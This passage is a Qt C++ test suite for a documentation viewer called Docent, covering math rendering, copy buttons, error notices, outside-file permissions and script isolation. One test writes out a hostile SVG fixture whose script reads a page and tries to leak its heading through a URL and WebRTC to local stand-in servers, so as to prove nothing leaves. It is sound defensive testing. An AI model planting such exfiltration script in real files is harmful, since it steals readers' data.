    QCOMPARE(depth, 3);
    // Selecting it only selects; Enter opens it.
    w.sectionTree()->setCurrentIndex(proxy->mapFromSource(deep));
    QTest::keyClick(w.sectionTree(), Qt::Key_Return);
    QVERIFY(waitForHeading(w.view(), QStringLiteral("The Deepest Page")));
    // The missing image is a broken picture, not a request outside the tree.
    QCOMPARE(js(w.view(), QStringLiteral("String(document.images.length)")), QStringLiteral("1"));
}

void TestMainWindow::mathIsTypeset()
{
    QVERIFY2(!AppFiles::katexDir().isEmpty(), "KaTeX is missing: install libjs-katex (packaging/deps/install-debian.sh)");
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("sphinx/directives.rst")), QStringLiteral("Directives")));
    // the math directive is typeset, its note gone; KaTeX's MathML keeps the LaTeX source
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('.math-block.typeset .katex-display').length)")),
             QStringLiteral("1"));
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('.math-note, pre.math').length)")), QStringLiteral("0"));
    QVERIFY(js(w.view(), QStringLiteral("document.querySelector('.math-block annotation').textContent"))
                .contains(QStringLiteral("e^{i\\pi} + 1 = 0")));
    // inline math too, backslashes and all
    QSignalSpy loaded(w.view(), &QWebEngineView::loadFinished);
    w.showDocument(QStringLiteral("roles"));
    QTRY_VERIFY_WITH_TIMEOUT(loaded.count() >= 1, 10000);
    QVERIFY(waitForPageScript(w.view()));
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('span.math.typeset .katex').length)")), QStringLiteral("1"));
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('code.math').length)")), QStringLiteral("0"));

    // without KaTeX the page links no KaTeX and the math stays as source, with its note
    qputenv("DOCENT_KATEX_DIR", "");
    w.showDocument(QStringLiteral("directives"));
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Directives")));
    QVERIFY(waitForPageScript(w.view()));
    qunsetenv("DOCENT_KATEX_DIR");
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('script[src*=katex], .katex').length)")),
             QStringLiteral("0"));
    QCOMPARE(js(w.view(), QStringLiteral("document.querySelector('.math-block pre.math').textContent")),
             QStringLiteral("e^{i\\pi} + 1 = 0"));
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('.math-note').length)")), QStringLiteral("1"));
}

void TestMainWindow::copyButtonCopiesCode()
{
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("tree/guide/usage.rst")), QStringLiteral("Usage")));
    QCOMPARE(js(w.view(), QStringLiteral("String(document.querySelectorAll('.code-frame > pre.code + .copy-button').length)")),
             QStringLiteral("1"));
    // A real mouse click: the clipboard is written for a reader's click (user activation), not
    // for a script's.
    const QStringList rect = js(w.view(), QStringLiteral("(function(){var r=document.querySelector('.copy-button')"
                                                         ".getBoundingClientRect();return Math.round(r.left+r.width/2)+','+"
                                                         "Math.round(r.top+r.height/2);})()")).split(u',');
    QCOMPARE(rect.size(), 2);
    const QPoint button(rect[0].toInt(), rect[1].toInt());
    QGuiApplication::clipboard()->clear();
    QTest::mouseClick(w.view()->focusProxy(), Qt::LeftButton, {}, button);
    QTRY_COMPARE_WITH_TIMEOUT(QGuiApplication::clipboard()->text(), QStringLiteral("$ docent render page.rst"), 10000);
    QTRY_COMPARE_WITH_TIMEOUT(js(w.view(), QStringLiteral("document.querySelector('.copy-button').getAttribute('data-label')")),
                              QStringLiteral("Copied"), 10000);
    // the label is the style sheet's: the page's text (find, select and copy) has no "Copy" in it
    QVERIFY(!js(w.view(), QStringLiteral("document.body.innerText")).contains(QStringLiteral("Copy")));

    // where navigator.clipboard refuses, the selection and execCommand('copy') do it
    js(w.view(), QStringLiteral("navigator.clipboard.writeText = function () { return Promise.reject(new Error('refused')); }, ''"));
    QGuiApplication::clipboard()->clear();
    QTest::mouseClick(w.view()->focusProxy(), Qt::LeftButton, {}, button);
    QTRY_COMPARE_WITH_TIMEOUT(QGuiApplication::clipboard()->text(), QStringLiteral("$ docent render page.rst"), 10000);
}

void TestMainWindow::svgOfTheTreeRunsNoScript()
{
    // Where a leak would arrive: a STUN server (UDP), a web and TURN server (TCP), the browser.
    QUdpSocket stun;
    QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
    QTcpServer web;
    QVERIFY(web.listen(QHostAddress::LocalHost, 0));
    BrowserStandIn browser;
    // The SVG reads a page of the tree through an iframe, opens a WebRTC connection and sends
    // what it read in a URL for the system browser; then it says it is done.
    QTemporaryDir tree;
    const QString tcp = QString::number(web.serverPort());
    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("conf.py")), QStringLiteral("project = 'SVG'\n")));
    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("index.rst")),
                                  QStringLiteral("Secret Page\n===========\n\n.. image:: hostile.svg\n   :target: hostile.svg\n\n"
                                                 "`outside <http://127.0.0.1:%1/clicked>`_\n").arg(tcp)));
    QVERIFY(DocentTest::writeFile(
        tree.filePath(QStringLiteral("hostile.svg")),
        QStringLiteral(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"240\" height=\"120\">\n"
            "<rect width=\"240\" height=\"120\" fill=\"#c33\"/>\n<script><![CDATA[\n"
            "setTimeout(function () {\n"
            "  var holder = document.createElementNS('http://www.w3.org/2000/svg', 'foreignObject');\n"
            "  var frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');\n"
            "  frame.setAttribute('src', 'index.html');\n"
            "  frame.onload = function () {\n"
            "    var secret = 'unread';\n"
            "    try { secret = frame.contentDocument.querySelector('h1').textContent; } catch (e) {}\n"
            "    var send = function () {\n"
            "      location.href = 'http://127.0.0.1:%1/leak?' + encodeURIComponent(secret);\n"
            "      document.title = 'leaked';\n"
            "    };\n"
            "    try {\n"
            "      var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%2'},\n"
            "        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: 'c'}]});\n"
            "      pc.createDataChannel('leak');\n"
            "      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(send, send);\n"
            "    } catch (e) { send(); }\n"
            "  };\n"
            "  holder.appendChild(frame);\n"
            "  document.documentElement.appendChild(holder);\n"
            "}, 0);\n"
            "]]></script>\n</svg>\n")
            .arg(tcp, QString::number(stun.localPort()))));

    MainWindow w;
    QVERIFY(showTree(w, tree.path(), QStringLiteral("Secret Page")));
    // The reader clicks the image, whose :target: is the SVG: it opens as a page of Docent's
    // showing the image, or (had its script run) the script says it is done.
    QVERIFY(clickElement(w.view(), QStringLiteral("a.reference img")));
    QTRY_VERIFY_WITH_TIMEOUT(w.view()->url().path() == u"/hostile.svg" &&
                                 (js(w.view(), QStringLiteral("document.title")) == u"leaked" ||
                                  js(w.view(), QStringLiteral("String(document.images.length === 1 && "
                                                              "document.images[0].complete && document.images[0].naturalWidth)")) == u"240"),
                             15000);
    // A click the reader makes still reaches the browser: when it has, anything the script sent
    // before it would have arrived too.
    w.view()->back();
    QVERIFY(waitForHeading(w.view(), QStringLiteral("Secret Page")));
    QVERIFY(waitForPageScript(w.view()));
    QTRY_COMPARE_WITH_TIMEOUT(js(w.view(), QStringLiteral("String(document.images[0].complete)")), QStringLiteral("true"), 15000);
    QVERIFY(clickElement(w.view(), QStringLiteral("a[href^=http]")));
    QTRY_VERIFY_WITH_TIMEOUT(!browser.opened.isEmpty(), 15000);
    QCOMPARE(browser.opened, QStringList{QStringLiteral("http://127.0.0.1:%1/clicked").arg(tcp)});
    QVERIFY2(!stun.hasPendingDatagrams(), "a STUN request left");
    QVERIFY2(!web.hasPendingConnections(), "a TCP connection was made");
}

void TestMainWindow::onlyTheReaderOpensTheBrowser()
{
    BrowserStandIn browser;
    QTemporaryDir tree;
    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("conf.py")), QStringLiteral("project = 'Links'\n")));
    QVERIFY(DocentTest::writeFile(tree.filePath(QStringLiteral("index.rst")),
                                  QStringLiteral("Links\n=====\n\n`first <http://127.0.0.1:1/first>`_\n\n"
                                                 "`second <https://127.0.0.1:1/second>`_\n")));
    MainWindow w;
    QVERIFY(showTree(w, tree.path(), QStringLiteral("Links")));
    // Script follows a link and clicks one: neither is the reader's. Each is given a moment to
    // reach the window before the next (a second navigation would cancel the first).
    js(w.view(), QStringLiteral("location.href='http://127.0.0.1:1/by-script';''"));
    QTest::qWait(500);
    js(w.view(), QStringLiteral("document.querySelector('a.external').click();''"));
    QTest::qWait(500);
    // The reader's click and key press do open the browser, each once; had the script's got
    // through, they would be first.
    QVERIFY(clickElement(w.view(), QStringLiteral("a[href$=second]")));
    QTRY_VERIFY_WITH_TIMEOUT(!browser.opened.isEmpty(), 15000);
    js(w.view(), QStringLiteral("document.querySelector('a[href$=first]').focus();''"));
    QTest::keyClick(w.view()->focusProxy(), Qt::Key_Return);
    QTRY_COMPARE_WITH_TIMEOUT(browser.opened.size(), 2, 15000);
    QCOMPARE(browser.opened, (QStringList{QStringLiteral("https://127.0.0.1:1/second"), QStringLiteral("http://127.0.0.1:1/first")}));
}

void TestMainWindow::webRtcSendsNoUdp()
{
    // Script of Docent's pages cannot make WebRTC connections either way (no script but Docent's
    // runs); this is the profile's last line: no UDP leaves, whoever asks.
    QUdpSocket stun;
    QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
    MainWindow w;
    QVERIFY(showTree(w, DocentTest::dataDir(QStringLiteral("tree")), QStringLiteral("Test Tree")));
    js(w.view(), QStringLiteral("window.gathering='';var pc=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:%1'}]});"
                                "pc.createDataChannel('x');pc.onicegatheringstatechange=function(){window.gathering=pc.iceGatheringState;};"
                                "pc.createOffer().then(function(o){return pc.setLocalDescription(o);});''")
                     .arg(stun.localPort()));
    QTRY_VERIFY_WITH_TIMEOUT(stun.hasPendingDatagrams() || js(w.view(), QStringLiteral("window.gathering")) == u"complete", 60000);
    QVERIFY2(!stun.hasPendingDatagrams(), "a STUN request left");
}

void TestMainWindow::failedRequestsMakeOneNotice()
{
    MainWindow w;
    w.show();
    QVERIFY(QTest::qWaitForWindowExposed(&w));
    // A modal dialog would stop here until closed: one closed for us is counted as a failure.
    int modalDialogs = 0;
    QTimer closer;
    connect(&closer, &QTimer::timeout, &w, [&] {
        if (QWidget *modal = QApplication::activeModalWidget()) {
            ++modalDialogs;
            modal->close();
        }
    });
    closer.start(20);
    constexpr int requests = 60;
    for (int i = 0; i < requests; ++i)
        w.openRequested(QStringLiteral("/nonexistent/docent-%1.rst").arg(i), {});
    QCOMPARE(modalDialogs, 0);
    const QList<QMessageBox *> boxes = w.findChildren<QMessageBox *>();
    QCOMPARE(boxes.size(), 1);
    QVERIFY(boxes.first()->isVisible());
    QVERIFY(!boxes.first()->isModal());
    QVERIFY2(boxes.first()->text().contains(QString::number(requests)), qPrintable(boxes.first()->text()));
    QVERIFY(boxes.first()->detailedText().contains(QStringLiteral("docent-%1.rst").arg(requests - 1)));
    QVERIFY(w.statusBar()->currentMessage().contains(QStringLiteral("docent-%1.rst").arg(requests - 1)));
    // Closed, the next failure starts a new count.
    boxes.first()->close();
    QTRY_VERIFY(w.findChildren<QMessageBox *>().isEmpty());
    w.openRequested(QStringLiteral("/nonexistent/again.rst"), {});
    QCOMPARE(w.findChildren<QMessageBox *>().size(), 1);
    QVERIFY(w.findChildren<QMessageBox *>().first()->text().contains(QStringLiteral("again.rst")));
}

// A page that includes a file from beyond its tree (no repository holds it) says why it is empty,
// and a bar above it names the folder; "Allow for this tree" reads the tree again with the file,
// and the allowance is remembered for that tree only.
void TestMainWindow::outsideFilesAreAllowedPerTree()
{
    QTemporaryDir base;
    const QString project = QFileInfo(base.path()).canonicalFilePath() + QStringLiteral("/project");
    const QString docs = project + QStringLiteral("/docs"), other = project + QStringLiteral("/other");
    QVERIFY(DocentTest::writeFile(project + QStringLiteral("/HISTORY.rst"), QStringLiteral("The first version came.\n")));
    for (const QString &tree : {docs, other}) {
        QVERIFY(DocentTest::writeFile(tree + QStringLiteral("/conf.py"), QString()));
        QVERIFY(DocentTest::writeFile(tree + QStringLiteral("/index.rst"),
                                      QStringLiteral("History\n=======\n\n.. include:: ../HISTORY.rst\n")));
    }
    const auto pageText = [](MainWindow &w) { return js(w.view(), QStringLiteral("document.body.innerText")); };
    {
        MainWindow w;
        QVERIFY(showTree(w, docs, QStringLiteral("History")));
        OutsideFilesBar *bar = w.outsideFilesBar();
        QTRY_VERIFY_WITH_TIMEOUT(bar->isVisible(), 5000);
        QCOMPARE(bar->folders(), QStringList{project});
        QVERIFY2(bar->message()->text().contains(project), qPrintable(bar->message()->text()));
        QCOMPARE(bar->allowButton()->text(), QStringLiteral("Allow for this tree"));
        // the page itself says why the history is missing and how to allow it
        QVERIFY(!pageText(w).contains(QStringLiteral("The first version came.")));
        QVERIFY2(pageText(w).contains(QStringLiteral("--allow-outside ") + project), qPrintable(pageText(w)));
        QVERIFY(Settings::allowedOutside(docs).isEmpty());

        QTest::mouseClick(bar->allowButton(), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(pageText(w).contains(QStringLiteral("The first version came.")), 10000);
        QVERIFY(!bar->isVisible());
        QVERIFY(!pageText(w).contains(QStringLiteral("--allow-outside")));
        QCOMPARE(Settings::allowedOutside(docs), QStringList{project});
        QVERIFY(Settings::allowedOutside(other).isEmpty());
    }
    {
        // remembered: the tree reads the file from the start now
        MainWindow w;
        QVERIFY(showTree(w, docs, QStringLiteral("History")));
        QVERIFY(pageText(w).contains(QStringLiteral("The first version came.")));
        QVERIFY(!w.outsideFilesBar()->isVisible());
    }
    {
        // for that tree only: its neighbour, asking for the same folder, is still refused
        MainWindow w;
        QVERIFY(showTree(w, other, QStringLiteral("History")));
        QTRY_VERIFY_WITH_TIMEOUT(w.outsideFilesBar()->isVisible(), 5000);
        QVERIFY(!pageText(w).contains(QStringLiteral("The first version came.")));
    }
    QSettings().remove(QStringLiteral("outside"));
}

QTEST_MAIN(TestMainWindow)
#include "tst_mainwindow.moc"
